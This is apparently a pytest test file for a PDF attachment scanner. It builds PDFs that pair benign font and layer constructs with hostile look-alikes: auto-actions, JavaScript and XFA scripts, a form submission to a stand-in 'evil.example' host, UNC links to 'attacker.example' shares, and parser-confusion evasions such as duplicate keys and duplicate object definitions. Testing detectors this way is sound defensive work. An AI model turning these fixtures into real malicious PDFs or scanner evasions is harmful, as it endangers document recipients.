"""PdfEngine precision: glyph names that spell actions (`pdf_glyphs`), /AA that only shows a
layer, a URI that is a path. Each honest file from pdfTeX or Distiller has a hostile look-alike
that must still be caught; fixtures are built here byte by byte."""

from __future__ import annotations

import pytest

from attachguard.policy import Policy
from support import evasions
from test_pdf_readings import codes, found, scan

CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R%s >>"  # noqa: E501
CONTENT = b"<< /Length 30 >>\nstream\nBT /F1 12 Tf 72 100 Td (a) Tj ET\nendstream"
HELVETICA = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
GLYPH = b"<< /Length 14 >>\nstream\n0 0 d0 0 0 m f\nendstream"
# A Type 3 font as pdfTeX writes one for a bitmap font: glyphs named after their codes, so code
# 10 is /AA (others name theirs anything: /JS, /Launch).
FONT = (
    b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [1 0 0 1 0 0] "
    b"/FirstChar 9 /LastChar 12 /Widths [1 1 1 1] /CharProcs %s /Encoding %s >>"
)
IN_PLACE_PROCS = b"<< /A9 6 0 R /AA 6 0 R /JS 6 0 R /Launch 6 0 R >>"
DIFFERENCES = b"<< /Type /Encoding /Differences [9 /A9 /AA /JS /Launch] >>"
URI_ACTION = b"<< /S /URI /URI (https://example.org/) >>"


def pdf(objects: dict[int, bytes]) -> bytes:
    """A PDF of ``objects`` (1: catalog, 2: pages, 3: page, 4: its content by default)."""
    merged = {1: CATALOG, 2: PAGES, 3: PAGE % b"", 4: CONTENT, 5: HELVETICA, **objects}
    return evasions.pdf(sorted(merged.items()))


def with_font(procs: bytes = IN_PLACE_PROCS, **more: bytes) -> dict[int, bytes]:
    objects = {5: FONT % (procs, b"7 0 R"), 6: GLYPH, 7: DIFFERENCES}
    objects.update({int(n[1:]): body for n, body in more.items()})
    return objects


# -- glyph names ----------------------------------------------------------------------------------


def test_glyphs_named_like_actions_in_place(policy: Policy) -> None:
    # ledarab.pdf: /CharProcs and /Differences name a glyph /AA
    assert found(scan(pdf(with_font()), policy)) == set()


def test_glyph_table_by_reference_only_from_charprocs(policy: Policy) -> None:
    # Distiller and pdfTeX write /CharProcs as an object of its own
    objects = with_font(b"8 0 R", o8=IN_PLACE_PROCS)
    assert found(scan(pdf(objects), policy)) == set()


def test_differences_by_reference_only_from_an_encoding(policy: Policy) -> None:
    objects = with_font(o7=b"<< /Type /Encoding /Differences 8 0 R >>", o8=b"[9 /A9 /AA /JS]")
    assert found(scan(pdf(objects), policy)) == set()


def test_additional_actions_on_a_page_whose_font_has_a_glyph_aa(policy: Policy) -> None:
    objects = with_font(o3=PAGE % b" /AA << /O 8 0 R >>", o8=URI_ACTION)
    assert found(scan(pdf(objects), policy)) == {("PDF_AUTO_ACTION", "page 1")}


def test_javascript_beside_a_differences_array(policy: Policy) -> None:
    script = b"<< /Differences [9 /JS] /S /JavaScript /JS (app.alert\\(1\\)) >>"
    objects = with_font(o3=PAGE % b" /Annots [9 0 R]", o8=script)
    objects[9] = b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A 8 0 R >>"
    assert "PDF_JAVASCRIPT" in codes(scan(pdf(objects), policy))


def test_charprocs_dictionary_also_used_as_an_action(policy: Policy) -> None:
    # every value a reference: /S refers to the name /JavaScript, /JS to a stream of script
    procs = b"<< /S 9 0 R /JS 10 0 R >>"
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A 8 0 R >>"
    script = b"<< /Length 11 >>\nstream\napp.alert()\nendstream"
    objects = with_font(b"8 0 R", o3=PAGE % b" /Annots [11 0 R]", o8=procs, o11=link)
    objects |= {9: b"/JavaScript", 10: script}
    assert "PDF_JAVASCRIPT" in codes(scan(pdf(objects), policy))


def test_charprocs_dictionary_also_an_annotation(policy: Policy) -> None:
    # the glyph table is in the page's /Annots too: its /AA is an annotation's
    procs = b"<< /AA 9 0 R /Rect 10 0 R >>"
    objects = with_font(b"8 0 R", o3=PAGE % b" /Annots [8 0 R]", o8=procs, o9=b"<< /E 11 0 R >>")
    objects |= {10: b"[0 0 9 9]", 11: URI_ACTION}
    assert "PDF_AUTO_ACTION" in codes(scan(pdf(objects), policy))


def test_charprocs_dictionary_that_is_the_catalog(policy: Policy) -> None:
    # referred to from the trailer as well: /Root 8 0 R is no glyph key
    catalog = b"<< /Pages 2 0 R /OpenAction 9 0 R >>"
    objects = with_font(b"8 0 R", o8=catalog, o9=URI_ACTION)
    data = pdf(objects).replace(b"/Root 1 0 R", b"/Root 8 0 R")
    assert "PDF_AUTO_ACTION" in codes(scan(data, policy))


@pytest.mark.parametrize(
    "page",
    [
        # a glyph table written in a comment: the /AA after the line break is the page's
        b" % /CharProcs <<\n /AA << /O 8 0 R >> >>",
        # /CharProcs as a value: a reader that skips the "<<" a key cannot be takes /AA as a key
        b" /Foo /CharProcs << /AA 9 0 R >>",
    ],
)
def test_glyph_table_look_alikes_hide_nothing(page: bytes, policy: Policy) -> None:
    objects = with_font(o3=PAGE % page, o8=URI_ACTION, o9=b"<< /O 8 0 R >>")
    assert "PDF_AUTO_ACTION" in codes(scan(pdf(objects), policy))


def test_glyph_table_with_a_value_written_in_place_is_judged(policy: Policy) -> None:
    # a glyph procedure is a stream, never written in place: this is no glyph table
    objects = with_font(b"<< /A9 6 0 R /JS (app.alert\\(1\\)) >>")
    assert "PDF_JAVASCRIPT" in codes(scan(pdf(objects), policy))


# -- additional actions that only show something --------------------------------------------------

LAYERS = b"<< /OCGs [10 0 R] >>"
LAYER = b"<< /Type /OCG /Name (Logo) >>"
SHOW = b"<< /S /SetOCGState /State [/Toggle 10 0 R] >>"


def widget(triggers: bytes, **more: bytes) -> bytes:
    """A button whose /AA is ``triggers``, with a layer (object 10) it may show or hide."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OCProperties << /OCGs [10 0 R] /D << >> >> >>",
        3: PAGE % b" /Annots [9 0 R]",
        9: b"<< /Type /Annot /Subtype /Widget /FT /Btn /T (Logo) /Rect [0 0 9 9] /AA %s >>"
        % triggers,
        10: LAYER,
    }
    objects.update({int(n[1:]): body for n, body in more.items()})
    return pdf(objects)


def test_additional_actions_that_show_and_hide_a_layer(policy: Policy) -> None:
    # microtype.pdf: mouse enter, exit, down, up toggle a layer
    data = widget(b"<< /E %s /X %s /D 11 0 R /U [11 0 R] >>" % (SHOW, SHOW), o11=SHOW)
    assert found(scan(data, policy)) == set()


@pytest.mark.parametrize(
    "inert",
    [
        b"<< /S /GoTo /D [3 0 R /Fit] >>",
        b"<< /S /Named /N /NextPage >>",
        b"<< /S /Hide /T (Logo) /H false >>",
        b"<< /S /SetOCGState /State [/ON 10 0 R] /Next << /S /GoTo /D [3 0 R /Fit] >> >>",
    ],
)
def test_additional_actions_that_only_show_something(inert: bytes, policy: Policy) -> None:
    assert found(scan(widget(b"<< /E %s >>" % inert), policy)) == set()


@pytest.mark.parametrize(
    ("triggers", "also"),
    [
        (b"<< /E %s /X 11 0 R >>" % SHOW, set()),  # 11 is a URI action
        (b"<< /E << /S /SetOCGState /State [] /Next 11 0 R >> >>", set()),
        (b"<< /E << /S /SetOCGState /State [] /Next [12 0 R 11 0 R] >> >>", set()),
        (b"<< /E << /S /Named /N /Print >> >>", set()),
        (b"<< /E << /S /JavaScript /JS (app.alert\\(1\\)) >> >>", {"PDF_JAVASCRIPT"}),
        (b"<< /E << /S 13 0 R >> >>", set()),  # a type by reference is not judged
        (b"<< /E 99 0 R >>", set()),  # resolves to nothing
        (b"99 0 R", set()),
        (b"[ %s ]" % SHOW, set()),  # no dictionary of events
        (b"12", set()),
    ],
)
def test_additional_actions_that_do_something(
    triggers: bytes, also: set[str], policy: Policy
) -> None:
    data = widget(triggers, o11=URI_ACTION, o12=SHOW, o13=b"/SetOCGState")
    assert codes(scan(data, policy)) == {"PDF_AUTO_ACTION", *also}


def test_additional_action_in_another_definition_is_judged_too(policy: Policy) -> None:
    # object 11 is defined twice: the cross-reference takes the layer toggle, a repairing
    # reader the URI action
    data = widget(b"<< /E 11 0 R >>", o11=SHOW)
    at = data.index(b"xref\n")
    hidden = b"11 0 obj\n%s\nendobj\n" % URI_ACTION
    data = (
        data[:at]
        + hidden
        + data[at:].replace(b"startxref\n%d" % at, b"startxref\n%d" % (at + len(hidden)))
    )
    assert "PDF_AUTO_ACTION" in codes(scan(data, policy))


def test_open_action_that_shows_a_layer(policy: Policy) -> None:
    # judged as an /AA is: showing a layer on opening does nothing a reader should refuse
    objects = {1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction %s >>" % SHOW, 10: LAYER}
    assert found(scan(pdf(objects), policy)) == set()


# -- a URI that is a path -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("uri", "external"),
    [
        (b"/texmf-local/tex/latex/syllogism", False),  # syllogism.pdf: a path, not a server
        (b"/attacker.example/share/x.pdf", False),
        (b"https://example.org/a/b", False),
        (b"\\\\\\\\attacker.example\\\\share\\\\x.pdf", True),
        (b"//attacker.example/share/x.pdf", True),
        (b"file://attacker.example/share/x.pdf", True),
        (b"smb://attacker.example/share", True),
    ],
)
def test_a_uri_names_a_share_only_in_a_unc_form(uri: bytes, external: bool, policy: Policy) -> None:
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (%s) >> >>" % uri
    result = scan(pdf({3: PAGE % b" /Annots [9 0 R]", 9: link}), policy)
    assert ("EXTERNAL_LINK" in codes(result)) is external


def test_a_file_specification_keeps_pdfs_server_form(policy: Policy) -> None:
    # a remote go-to names a file specification: /server/share/file is \\server\share\file
    action = b"<< /S /GoToR /F (/attacker.example/share/x.pdf) /D [0 /Fit] >>"
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A %s >>" % action
    result = scan(pdf({3: PAGE % b" /Annots [9 0 R]", 9: link}), policy)
    assert codes(result) == {"EXTERNAL_LINK"}


def test_a_base_uri_that_is_a_path(policy: Policy) -> None:
    objects = {1: b"<< /Type /Catalog /Pages 2 0 R /URI << /Base (/docs/manual/) >> >>"}
    assert found(scan(pdf(objects), policy)) == set()


# -- found in review: each way a first version let an action through ---------------------------

_ENCODING = b"<< /Type /Encoding /Differences [9 /A9] >>"
_SUBMIT = b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/s) >> /Flags 4 >>"
_XFA = (
    b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template><script "
    b"contentType='application/x-javascript'>app.alert(1)</script></template></xdp:xdp>"
)


def _xfa_form_as_glyph_table(reference: bytes) -> bytes:
    """A form whose dictionary is also a font's /CharProcs (every value a reference)."""
    return pdf({
        1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm %s >>" % reference,
        5: FONT % (b"13 0 R", b"7 0 R"), 6: GLYPH, 7: _ENCODING,
        13: b"<< /Fields 14 0 R /XFA 15 0 R >>", 14: b"[]",
        15: b"<< /Length %d >>\nstream\n%s\nendstream" % (len(_XFA), _XFA),
    })  # fmt: skip


def _annotation_as_glyph_table(reference: bytes) -> bytes:
    """A link whose /AA opens a URI, its dictionary also a font's /CharProcs."""
    return pdf({
        3: PAGE % (b" /Annots [%s]" % reference), 5: FONT % (b"8 0 R", b"7 0 R"), 6: GLYPH,
        7: _ENCODING, 8: b"<< /Type 12 0 R /Subtype 13 0 R /Rect 10 0 R /AA 9 0 R >>",
        9: b"<< /PO 11 0 R >>", 10: b"[0 0 9 9]", 11: URI_ACTION, 12: b"/Annot", 13: b"/Link",
    })  # fmt: skip


def _catalog_as_glyph_table(root: bytes) -> bytes:
    """A catalog whose /OpenAction submits the form, its dictionary also a /CharProcs."""
    return pdf({
        1: b"<< /Type 12 0 R /Pages 2 0 R /OpenAction 11 0 R >>",
        5: FONT % (b"1 0 R", b"7 0 R"), 6: GLYPH, 7: _ENCODING, 11: _SUBMIT, 12: b"/Catalog",
    }).replace(b"/Root 1 0 R", b"/Root " + root)  # fmt: skip


@pytest.mark.parametrize("spelling", [b"%d 0 R", b"0%d 0 R", b"%d 00 R", b"%d\x0b0 R",
                                      b"%d 0 %%c\nR", b"%d 1 R"])  # fmt: skip
def test_a_table_referred_to_in_any_spelling_is_judged(spelling: bytes, policy: Policy) -> None:
    """Every reference a reader may take counts in the census (leading zeros, any generation,
    a comment or vertical tab between the tokens): an object used otherwise is no table."""
    assert codes(scan(_xfa_form_as_glyph_table(spelling % 13), policy)) == {"PDF_XFA"}
    assert codes(scan(_annotation_as_glyph_table(spelling % 8), policy)) == {"PDF_AUTO_ACTION"}
    # (a root pypdf cannot resolve, through a comment or another generation, is CORRUPT)
    found_open = codes(scan(_catalog_as_glyph_table(spelling % 1), policy))
    assert found_open in ({"PDF_AUTO_ACTION"}, {"CORRUPT"}), found_open


@pytest.mark.parametrize(
    "triggers",
    [
        b"<< /O << /S /GoTo /D [3 0 R /Fit] /S /URI /URI (https://evil.example/b) >> >>",
        b"<< /O << /S /Named /N /NextPage /N /Print >> >>",
        b"<< /O << /S (/GoTo) /D [3 0 R /Fit] >> >>",
    ],
    ids=["type-written-twice", "name-written-twice", "type-as-a-string"],
)
def test_an_action_readers_may_take_differently_is_not_inert(
    triggers: bytes, policy: Policy
) -> None:
    # pypdf keeps a key's first definition, pdf.js and MuPDF its last
    assert codes(scan(pdf({3: PAGE % (b" /AA " + triggers)}), policy)) == {"PDF_AUTO_ACTION"}
